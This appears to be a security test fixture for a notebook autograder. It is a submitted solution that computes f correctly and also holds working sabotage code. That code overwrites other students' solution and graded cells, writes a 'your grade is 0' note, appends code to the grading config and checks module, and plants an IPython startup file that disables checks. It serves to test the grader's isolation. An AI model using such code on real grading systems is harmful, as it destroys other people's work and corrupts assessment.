"""A correct f, and in the same cell an attack on everything else the kernel can write: every
other student's notebook in submitted/ gets its solutions replaced by a raise, every other
already-autograded notebook in autograded/ gets a failing output in each test cell and a note,
nbgrader_config.py and a module of the installed `course` package get code appended, and an
IPython startup file (~/.ipython/profile_default/startup/00-pwn.py) turns the grading checks
into no-ops for the kernels that come later. Everything it writes carries the marker
PWNED-overwrites_other_students_files; the planted code acts only in kernels inside the same
course directory, and only for 15 minutes, so that it cannot spread beyond this grading run.
What must happen: none of those files change (no PWNED- anywhere in the course directory or in
the installed package), the other students keep their scores (the blank notebook graded after
this one still scores 0), and this submission scores full marks."""

LOSES = []

# %% f
import json
import os
import pathlib
import time


def _overwrite_other_files():
    mark = "PWNED" + "-overwrites_other_students_files"
    here = pathlib.Path(os.getcwd()).resolve()
    me = here.parent.name if here.parent.parent.name in ("submitted", "autograded") else ""
    root = next((d for d in (here, *here.parents) if (d / "nbgrader_config.py").is_file()
                 or (d / "gradebook.db").is_file()), None)
    # planted code acts only inside this course directory (or, unknown, only in notebook
    # folders of some course) and only for 15 minutes
    guard = (f"import os, time\n"
             f"_root = {str(root or '')!r}\n"
             f"_cwd = os.getcwd()\n"
             f"_active = time.time() < {time.time() + 900!r} and ((_root and _cwd.startswith(_root))"
             f" or (not _root and ('submitted' in _cwd or 'autograded' in _cwd)))\n")
    neuter = (guard + f"# {mark}\n"
              "if _active:\n"
              "    import course.checks as _checks\n"
              "    for _name in [n for n in dir(_checks) if not n.startswith('_')]:\n"
              "        if callable(getattr(_checks, _name)) and _name not in ('CheckFailed', 'setup'):\n"
              "            setattr(_checks, _name, lambda *a, **k: None)\n")
    written = 0
    if root is not None:
        for nb_path in list((root / "submitted").glob("*/*/*.ipynb"))[:200]:
            if nb_path.parent.parent.name == me:
                continue
            nb = json.loads(nb_path.read_text())
            for cell in nb["cells"]:
                meta = cell.get("metadata", {}).get("nbgrader", {})
                if meta.get("solution") and cell["cell_type"] == "code":
                    cell["source"] = f"raise RuntimeError({mark!r})\n"
            nb_path.write_text(json.dumps(nb))
            written += 1
        for nb_path in list((root / "autograded").glob("*/*/*.ipynb"))[:200]:
            if nb_path.parent.parent.name == me:
                continue
            nb = json.loads(nb_path.read_text())
            for cell in nb["cells"]:
                if cell.get("metadata", {}).get("nbgrader", {}).get("grade") and \
                        cell["cell_type"] == "code":
                    cell["outputs"] = [{"output_type": "error", "ename": "CheckFailed",
                                        "evalue": mark, "traceback": [mark]}]
            nb["cells"].append({"cell_type": "markdown", "metadata": {}, "id": "pwned",
                                "source": f"{mark}: your grade is 0"})
            nb_path.write_text(json.dumps(nb))
            written += 1
        config = root / "nbgrader_config.py"
        if config.is_file():
            with open(config, "a") as out:
                out.write(f"\n# {mark}\nimport pathlib as _p\n"
                          f"_p.Path({str(root / (mark + '-config-ran'))!r}).write_text({mark!r})\n")
            written += 1
    try:
        import course.checks
        with open(course.checks.__file__, "a") as out:
            out.write("\n" + neuter)
        written += 1
    except OSError:
        pass
    homes = {pathlib.Path.home() / ".ipython"}
    if os.environ.get("IPYTHONDIR"):
        homes.add(pathlib.Path(os.environ["IPYTHONDIR"]))
    for ipython_dir in homes:
        try:
            startup = ipython_dir / "profile_default" / "startup"
            startup.mkdir(parents=True, exist_ok=True)
            (startup / "00-pwn.py").write_text(neuter)
            written += 1
        except OSError:
            pass
    return written


try:
    print(f"wrote {_overwrite_other_files()} files")
except Exception as error:
    print("blocked:", type(error).__name__)


def f(x):
    return (x - 0.5) ** 2
